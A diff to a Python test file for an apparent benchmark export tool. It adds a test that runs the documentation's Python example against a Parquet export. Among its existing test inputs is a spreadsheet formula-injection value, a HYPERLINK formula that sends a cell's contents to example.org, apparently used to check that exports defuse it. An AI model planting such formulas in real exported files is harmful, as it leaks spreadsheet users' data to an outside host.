@@ -5,6 +5,9 @@ from __future__ import annotations
 import csv
 import io
 import json
+import re
+import subprocess
+import sys
 import tracemalloc
 from datetime import datetime
 from pathlib import Path
@@ -30,6 +33,7 @@ from exports import verdict
 from runs import passed, together, write
 
 FORMS = ("csv", "parquet")
+PAGE = (Path(__file__).parent.parent / "docs" / "exports.md").read_text()
 FORMULA = '=HYPERLINK("http://example.org?x="&A1,"ok")'
 NASTY = (
     FORMULA,
@@ -418,8 +422,15 @@ def test_a_home_without_runs_is_refused(tmp_path):
 # the documentation
 
 
+def test_the_example_on_the_page_reads_an_export(measured, tmp_path):
+    (example,) = re.findall(r"```python\n(.*?)```", PAGE, re.DOTALL)
+    exported(measured, "parquet", tmp_path / "tables")
+    command = [sys.executable, "-c", example.replace('"bwrap"', '"host"')]
+    shown = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=True).stdout
+    assert shown.startswith("{'benchmark': 'syscall.getpid', 'median': ")
+
+
 def test_the_page_lists_every_column_of_every_table():
-    page = (Path(__file__).parent.parent / "docs" / "exports.md").read_text()
     for table in TABLES.values():
-        section = page.partition(f"\n### `{table.name}`")[2].partition("\n### ")[0]
+        section = PAGE.partition(f"\n### `{table.name}`")[2].partition("\n### ")[0]
         assert [column.name for column in table.columns if f"`{column.name}`" not in section] == []
